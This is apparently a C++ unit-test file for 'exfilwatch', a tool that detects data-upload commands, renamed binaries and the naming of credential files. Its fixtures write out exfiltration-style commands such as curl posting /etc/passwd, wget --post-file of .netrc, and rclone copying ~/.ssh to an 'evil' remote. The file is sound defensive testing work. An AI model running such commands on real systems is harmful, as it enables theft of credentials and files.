// Tests detect/command.cpp against the built-in upload_tools: upload vs download arguments,
// renamed binaries, interpreters, and files named on a command line.
#include <doctest/doctest.h>

#include "detect/command.hpp"
#include "timeline.hpp"

using namespace exfilwatch;
using namespace exfilwatch::detect;

namespace {

const Rules& rules()
{
    static const Rules r = test::builtin();
    return r;
}

ProcessRef proc(std::vector<std::string> args, std::string exe = {})
{
    ProcessRef p;
    p.executable = exe.empty() ? "/usr/bin/" + args.front() : exe;
    p.name = p.executable.substr(p.executable.rfind('/') + 1);
    p.args = std::move(args);
    return p;
}

bool uploads(std::vector<std::string> args, std::string exe = {})
{
    return analyze_command(rules(), proc(std::move(args), std::move(exe))).upload;
}

}  // namespace

TEST_CASE("curl and wget: upload arguments")
{
    CHECK(uploads({"curl", "-T", "f", "https://x"}));
    CHECK(uploads({"curl", "-sT", "f", "https://x"}));
    CHECK(uploads({"curl", "--upload-file", "f", "https://x"}));
    CHECK(uploads({"curl", "-d", "@f", "https://x"}));
    CHECK(uploads({"curl", "--data-binary=@-", "https://x"}));
    CHECK(uploads({"curl", "-F", "file=@/etc/passwd", "https://x"}));
    CHECK(uploads({"curl", "-F", "file=</etc/passwd", "https://x"}));
    CHECK_FALSE(uploads({"curl", "-F", "name=value", "https://x"}));
    CHECK(uploads({"curl", "--json", "@x.json", "https://x"}));
    CHECK(uploads({"curl", "-X", "PUT", "https://x"}));
    CHECK_FALSE(uploads({"curl", "-X", "GET", "https://x"}));
    CHECK_FALSE(uploads({"curl", "-sSLo", "out", "https://x"}));
    CHECK(analyze_command(rules(), proc({"curl", "-o", "out", "https://x"})).download);
    CHECK(uploads({"wget", "--post-file=/etc/hosts", "https://x"}));
    CHECK(uploads({"wget", "--method=PUT", "--body-file=f", "https://x"}));
    CHECK_FALSE(uploads({"wget", "-q", "-O", "-", "https://x"}));
}

TEST_CASE("subcommand tools")
{
    CHECK(uploads({"rclone", "copy", "/data", "gdrive:backup"}));
    CHECK(uploads({"rclone", "rcat", "mega:f.txt"}));
    CHECK_FALSE(uploads({"rclone", "copy", "gdrive:backup", "/data"}));
    CHECK(uploads({"aws", "s3", "cp", "f", "s3://b/k"}));
    CHECK(uploads({"aws", "--profile", "p", "s3", "sync", ".", "s3://b/"}));
    CHECK_FALSE(uploads({"aws", "s3", "cp", "s3://b/k", "f"}));
    CHECK_FALSE(uploads({"aws", "s3", "ls"}));
    CHECK(uploads({"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", "f", "s3://b/"}, "/usr/bin/python3.11"));
    CHECK(uploads({"gsutil", "cp", "f", "gs://b/"}));
    CHECK(uploads({"gh", "gist", "create", "f"}));
    CHECK(uploads({"git", "push", "origin", "main"}));
    CHECK(uploads({"git", "-C", "repo", "push"}));
    CHECK_FALSE(uploads({"git", "clone", "https://github.com/o/r"}));
    CHECK_FALSE(uploads({"git", "commit", "-m", "push it"}));
    CHECK(uploads({"openssl", "s_client", "-connect", "h:443"}));
    CHECK_FALSE(uploads({"openssl", "x509", "-in", "c.pem"}));
    CHECK(uploads({"nc", "h", "443"}));
    CHECK(uploads({"az", "storage", "blob", "upload", "-f", "x"}));
}

TEST_CASE("interpreters: inline code that posts")
{
    CHECK(uploads({"python3", "-c", "import requests; requests.post(u, data=open(f).read())"}, "/usr/bin/python3.11"));
    CHECK(
        uploads({"python3", "-c", "urllib.request.urlopen(Request(u, data=d, method='POST'))"}, "/usr/bin/python3.11"));
    CHECK_FALSE(uploads({"python3", "-c", "urllib.request.urlopen('https://x').read()"}, "/usr/bin/python3.11"));
    CHECK_FALSE(uploads({"python3", "script.py"}, "/usr/bin/python3.11"));
    CHECK(uploads({"node", "-e", "fetch(u,{method:'POST',body:b})"}));
    CHECK(uploads({"php", "-r", "curl_setopt($c, CURLOPT_POSTFIELDS, $d);"}));
    CHECK(uploads({"pwsh", "-c", "Invoke-WebRequest -Uri u -InFile f -Method Put"}));
}

TEST_CASE("renamed binaries")
{
    auto copied = analyze_command(rules(), proc({"/tmp/.x", "-sk", "--data-binary", "@-", "https://x"}, "/tmp/.x"));
    CHECK(copied.upload);
    CHECK(copied.renamed);
    REQUIRE(copied.tool != nullptr);
    CHECK(copied.tool->name == "curl");
    auto spoofed = analyze_command(rules(), proc({"curl", "-T", "f", "https://x"}, "/var/tmp/kworker"));
    CHECK(spoofed.renamed);
    auto normal = analyze_command(rules(), proc({"curl", "-T", "f", "https://x"}));
    CHECK_FALSE(normal.renamed);
    auto py = analyze_command(rules(), proc({"python3", "-c", "requests.post(u)"}, "/usr/bin/python3.11"));
    CHECK_FALSE(py.renamed);
    auto busybox = analyze_command(rules(), proc({"wget", "--post-file=f", "https://x"}, "/bin/busybox"));
    CHECK(busybox.upload);
    CHECK_FALSE(busybox.renamed);
    CHECK_FALSE(analyze_command(rules(), proc({"/tmp/.y", "-la"}, "/tmp/.y")).tool);
}

TEST_CASE("names_file")
{
    CHECK(names_file(proc({"curl", "-F", "f=@/home/u/.netrc"}), "/home/u/.netrc"));
    CHECK(names_file(proc({"wget", "--post-file=.bash_history"}), "/home/u/.bash_history"));
    CHECK(names_file(proc({"cat", "~/.ssh/id_rsa"}), "/root/.ssh/id_rsa"));
    CHECK(names_file(proc({"rclone", "copy", "/home/u/.aws/", "r:"}), "/home/u/.aws/credentials"));
    CHECK(names_file(proc({"python3", "-c", "open('/home/u/.aws/credentials')"}), "/home/u/.aws/credentials"));
    CHECK_FALSE(names_file(proc({"aws", "s3", "ls"}), "/home/u/.aws/credentials"));
    CHECK_FALSE(names_file(proc({"cat", "id_rsa"}), "/root/.ssh/my_id_rsa"));
    CHECK_FALSE(names_file(proc({"ls", "/home/u/.aws2"}), "/home/u/.aws/credentials"));
}

TEST_CASE("each tool's grammar: options with values anywhere, --, the destination argument")
{
    // rclone's --config at the end used to be taken for the destination.
    auto sync = analyze_command(
        rules(), proc({"rclone", "sync", "/home/u/Documents", "b2:own/docs", "--config", "/etc/rc.conf"}));
    CHECK(sync.upload);
    CHECK(sync.destination == "b2:own/docs");
    CHECK(uploads({"rclone", "--config", "/etc/rc.conf", "copy", "/home/u/.ssh", "evil:x"}));
    CHECK(uploads({"rclone", "copy", "/home/u/.ssh", "evil:x", "--transfers", "4"}));
    CHECK_FALSE(uploads({"rclone", "copy", "b2:own/docs", "/restore", "--config", "/etc/rc.conf"}));
    CHECK_FALSE(uploads({"rclone", "ls", "b2:own"}));
    // `--` ends options: what follows is positional even when it starts with a dash.
    CHECK(analyze_command(rules(), proc({"rclone", "copyto", "--", "-weird", "r:x"})).destination == "r:x");
    CHECK(uploads({"aws", "--region", "eu-west-1", "s3", "cp", "f", "s3://b/k", "--sse", "AES256"}));
    CHECK(analyze_command(rules(), proc({"aws", "s3", "cp", "-", "s3://own-backups/h.tgz", "--expected-size", "9"}))
              .destination == "s3://own-backups/h.tgz");
    CHECK_FALSE(uploads({"aws", "s3", "cp", "s3://b/k", "./f", "--profile", "p"}));
    CHECK(analyze_command(rules(), proc({"aws", "s3api", "put-object", "--bucket", "bk", "--key", "k", "--body", "f"}))
              .destination == "bk");
    CHECK(uploads({"s3cmd", "-c", "/home/u/.s3cfg", "sync", "/home/u/Documents/", "s3://own-backups/docs/"}));
    CHECK(uploads({"s3cmd", "put", "f", "s3://b/"}));
    CHECK_FALSE(uploads({"s3cmd", "get", "s3://b/f", "f"}));
    CHECK(uploads({"gh", "gist", "create", "/home/u/.config/gh/hosts.yml"}));
    CHECK(uploads({"gh", "api", "repos/o/r/statuses/abc", "--input", "body.json"}));
    CHECK(uploads({"gh", "api", "gists", "-F", "files[x][content]=@/home/u/.netrc"}));
    CHECK_FALSE(uploads({"gh", "api", "repos/o/r/statuses/abc", "-f", "state=success", "-F", "n=1"}));
    CHECK_FALSE(uploads({"gh", "pr", "list"}));
    CHECK(analyze_command(rules(), proc({"git", "-c", "credential.helper=store", "push", "https://github.com/o/r.git"}))
              .destination == "https://github.com/o/r.git");
    CHECK_FALSE(uploads({"git", "log", "-m", "push"}));
    auto helper = analyze_command(rules(), proc({"git-remote-https", "origin", "https://github.com/our-org/app.git"},
                                                "/usr/lib/git-core/git-remote-https"));
    CHECK_FALSE(helper.upload);
    CHECK(helper.destination == "https://github.com/our-org/app.git");
    CHECK(uploads({"scp", "-i", "/home/u/.ssh/deploy", "-P", "2222", "build.tgz", "deploy@web1.example.org:/srv/"}));
    CHECK_FALSE(uploads({"scp", "-P", "2222", "deploy@web1:/srv/log", "."}));
    CHECK(uploads({"rsync", "-az", "-e", "ssh -p 22", "/home/u/Documents/", "backup@nas.lan:/vol/u/"}));
    CHECK(uploads({"rsync", "-a", "/data/", "rsync://nas/module/"}));
    CHECK_FALSE(uploads({"rsync", "-a", "/data/", "/mnt/usb/"}));
    CHECK_FALSE(uploads({"rsync", "-a", "nas:/vol/u/", "/restore/"}));
    auto restic = analyze_command(rules(), proc({"restic", "-r", "s3:https://s3.amazonaws.com/own-backups/h1", "backup",
                                                 "/home/u", "--password-file", "/etc/restic.pw"}));
    CHECK(restic.upload);
    CHECK(restic.destination == "s3:https://s3.amazonaws.com/own-backups/h1");
    CHECK_FALSE(uploads({"restic", "-r", "rest:https://b/h", "snapshots"}));
    CHECK(uploads({"borg", "create", "--compression", "lz4", "ssh://b@host/./repo::{now}", "/home/u"}));
    CHECK(uploads({"duplicity", "/home/u", "b2://key:secret@bucket/dir"}));
    CHECK_FALSE(uploads({"duplicity", "restore", "b2://key:secret@bucket/dir", "/tmp/r"}));
    CHECK(uploads({"azcopy", "copy", "/data", "https://acct.blob.core.windows.net/c?sv=x", "--recursive"}));
    CHECK(uploads({"gcloud", "--project", "p", "storage", "cp", "f", "gs://b/"}));
    CHECK(uploads({"wget", "-e", "post_file=/home/u/.netrc", "https://x"}));
    CHECK_FALSE(uploads({"scp", "f", ""}));  // an empty argument is no destination
    CHECK_FALSE(uploads({"rclone", "copy", "", ""}));
    CHECK_FALSE(uploads({"wget", "-e", "robots=off", "https://x"}));
}

TEST_CASE("identity from the executable, never argv[0]")
{
    // exec -a ssh curl ...: curl, not an ssh credential consumer.
    auto disguised = proc({"ssh", "-T", "/home/u/.ssh/id_rsa", "https://x"}, "/usr/bin/curl");
    CHECK(process_names(disguised) == std::vector<std::string>{"curl"});
    CHECK_FALSE(any_name_matches({"ssh"}, disguised));
    auto a = analyze_command(rules(), disguised);
    REQUIRE(a.tool != nullptr);
    CHECK(a.tool->name == "curl");
    CHECK(a.upload);
    CHECK_FALSE(a.renamed);
    // A copy under another name is still known by its arguments.
    auto copy = analyze_command(rules(), proc({"ssh", "--upload-file", "k", "https://x"}, "/tmp/.ssh"));
    CHECK(copy.upload);
    CHECK(copy.renamed);
    // Interpreters: the script is the identity (python3 /usr/bin/aws), multi-call binaries: the applet.
    CHECK(any_name_matches({"aws"}, proc({"/usr/bin/python3", "/usr/bin/aws", "s3", "ls"}, "/usr/bin/python3.11")));
    CHECK(any_name_matches({"wget"}, proc({"wget", "-q", "https://x"}, "/bin/busybox")));
    CHECK_FALSE(any_name_matches({"wget"}, proc({"wget", "-q", "https://x"}, "/usr/bin/curl")));
}

TEST_CASE(
    "names_file with a tool's grammar: credentials it authenticates with are use, argument files may name anything")
{
    const auto& r = rules();
    CHECK_FALSE(names_file(r, proc({"ssh", "-i", "/home/u/.ssh/deploy", "host"}), "/home/u/.ssh/deploy"));
    CHECK_FALSE(names_file(r, proc({"scp", "-i/home/u/.ssh/deploy", "f", "h:"}), "/home/u/.ssh/deploy"));
    CHECK_FALSE(names_file(r, proc({"scp", "-i", "~/.ssh/deploy", "f", "h:"}), "/home/u/.ssh/deploy"));
    CHECK(names_file(r, proc({"scp", "-i", "~/.ssh/deploy", "/home/u/.ssh/id_rsa", "h:"}), "/home/u/.ssh/id_rsa"));
    CHECK_FALSE(names_file(r, proc({"ssh", "-o", "IdentityFile=~/.ssh/deploy", "h"}), "/home/u/.ssh/deploy"));
    CHECK_FALSE(
        names_file(r, proc({"rsync", "-a", "-e", "ssh -i /home/u/.ssh/deploy", "d/", "h:d/"}), "/home/u/.ssh/deploy"));
    CHECK_FALSE(names_file(r, proc({"git", "-c", "credential.helper=store --file /home/u/.git-credentials", "push"}),
                           "/home/u/.git-credentials"));
    CHECK(tool_names_file_as_data(r, proc({"scp", "/home/u/.ssh/id_rsa", "h:"}), "/home/u/.ssh/id_rsa"));
    CHECK_FALSE(tool_names_file_as_data(r, proc({"ssh-keygen", "-f", "/home/u/.ssh/id_rsa"}), "/home/u/.ssh/id_rsa"));
    CHECK_FALSE(names_file(r, proc({"rclone", "sync", "/d", "b2:x", "--config", "/home/u/.config/rclone/rclone.conf"}),
                           "/home/u/.config/rclone/rclone.conf"));
    CHECK_FALSE(names_file(r, proc({"rclone", "sync", "/d", "b2:x", "--config=/home/u/.config/rclone/rclone.conf"}),
                           "/home/u/.config/rclone/rclone.conf"));
    CHECK(names_file(r, proc({"rclone", "copy", "/home/u/.config/rclone", "evil:x"}),
                     "/home/u/.config/rclone/rclone.conf"));
    // curl -K cfg: cfg may say `upload-file = ~/.netrc`; nothing here reads it, so it names every path.
    CHECK(names_file(r, proc({"curl", "-K", "/tmp/cfg"}), "/home/u/.netrc"));
    CHECK(names_file(r, proc({"curl", "--config=/tmp/cfg"}), "/home/u/.netrc"));
    CHECK(analyze_command(r, proc({"curl", "-sK", "/tmp/cfg"})).argument_files == std::vector<std::string>{"/tmp/cfg"});
    // wget -i holds URLs, never a file to send; its wgetrc (--config) can say `post_file = F`.
    CHECK_FALSE(names_file(r, proc({"wget", "-i", "/tmp/urls"}), "/home/u/.netrc"));
    CHECK(names_file(r, proc({"wget", "--config=/tmp/wgetrc", "-i", "/tmp/urls"}), "/home/u/.netrc"));
    CHECK(names_file(r, proc({"wget", "-i", "/tmp/urls", "--post-file=/home/u/.netrc"}), "/home/u/.netrc"));
    CHECK_FALSE(names_file(r, proc({"curl", "-s", "https://x"}), "/home/u/.netrc"));
}

TEST_CASE("destinations taken apart")
{
    auto d = parse_destination("s3://own-backups/host1/h.tgz");
    CHECK(d.scheme == "s3");
    CHECK(d.host.empty());
    CHECK(d.path == "own-backups/host1/h.tgz");
    d = parse_destination("b2:own/docs");
    CHECK(d.remote == "b2");
    CHECK(d.path == "own/docs");
    d = parse_destination("https://GitHub.com/our-org/app.git");
    CHECK(d.host == "github.com");
    CHECK(d.path == "our-org/app.git");
    d = parse_destination("git@github.com:our-org/app.git");
    CHECK(d.host == "github.com");
    CHECK(d.path == "our-org/app.git");
    d = parse_destination("s3:https://s3.amazonaws.com/own-backups/h1");
    CHECK(d.host == "s3.amazonaws.com");
    CHECK(d.path == "own-backups/h1");
    d = parse_destination("s3:s3.amazonaws.com/own-backups");
    CHECK(d.host == "s3.amazonaws.com");
    CHECK(d.path == "own-backups");
    d = parse_destination("rest:https://user:pw@backup.example.org:8000/h1");
    CHECK(d.host == "backup.example.org");
    CHECK(d.path == "h1");
}

TEST_CASE("own storage: a declared tool to a declared destination, nothing else")
{
    auto loaded = load_rules(std::string(builtin_rules_yaml) + R"(
own_storage:
  tools: [rclone, aws, s3cmd, restic, git]
  destinations:
    - s3.amazonaws.com/own-backups
    - {domain: backblazeb2.com, remote: b2, path: own/}
    - {domain: github.com, path: our-org/}
)",
                             "own.yaml");
    REQUIRE(std::holds_alternative<Rules>(loaded));
    const auto& r = std::get<Rules>(loaded);
    auto own = [&](std::vector<std::string> args, std::string_view domain, std::string exe = {}) {
        return own_destination(r, analyze_command(r, proc(std::move(args), std::move(exe))), domain) != nullptr;
    };
    CHECK(own({"aws", "s3", "cp", "-", "s3://own-backups/h.tgz"}, "s3.amazonaws.com"));
    CHECK(own({"aws", "s3", "cp", "-", "s3://own-backups/h.tgz"}, "own-backups.s3.amazonaws.com"));
    CHECK_FALSE(own({"aws", "s3", "cp", "-", "s3://own-backups-x/h.tgz"}, "s3.amazonaws.com"));  // another bucket
    CHECK_FALSE(own({"aws", "s3", "cp", "-", "s3://other/own-backups/h"}, "s3.amazonaws.com"));
    CHECK_FALSE(own({"aws", "s3", "cp", "-", "s3://own"}, "s3.amazonaws.com"));  // shorter than the bucket
    CHECK(own({"aws", "s3", "cp", "-", "s3://own-backups"}, "s3.amazonaws.com"));
    CHECK_FALSE(
        own({"aws", "s3", "cp", "-", "s3://own-backups/h.tgz"}, "evil.example.net"));  // --endpoint-url elsewhere
    CHECK_FALSE(
        own({"curl", "-T", "f", "https://s3.amazonaws.com/own-backups/f"}, "s3.amazonaws.com"));  // not declared
    CHECK(own({"rclone", "sync", "/home/u/Documents", "b2:own/docs", "--config", "/etc/rc"}, "api.backblazeb2.com"));
    CHECK_FALSE(own({"rclone", "copy", "/home/u/.ssh", "b3:own/docs"}, "api.backblazeb2.com"));
    CHECK_FALSE(own({"rclone", "copy", "/home/u/.ssh", "b2:theirs/x"}, "api.backblazeb2.com"));
    CHECK_FALSE(own({"rclone", "copy", "/home/u/.ssh", "b2:own/x"}, "content.dropboxapi.com"));
    CHECK(own({"git-remote-https", "origin", "https://github.com/our-org/app.git"}, "github.com",
              "/usr/lib/git-core/git-remote-https"));
    CHECK_FALSE(own({"git-remote-https", "origin", "https://github.com/their-org/app.git"}, "github.com",
                    "/usr/lib/git-core/git-remote-https"));
    CHECK(own({"restic", "-r", "s3:https://s3.amazonaws.com/own-backups/h1", "backup", "/home"}, "s3.amazonaws.com"));
    CHECK_FALSE(
        own({"restic", "-r", "s3:https://evil.example.net/own-backups/h1", "backup", "/home"}, "s3.amazonaws.com"));
    // A copy of a declared tool under another name is not the declared tool.
    CHECK_FALSE(own({"aws", "s3", "cp", "-", "s3://own-backups/h.tgz"}, "s3.amazonaws.com", "/tmp/.x"));
}
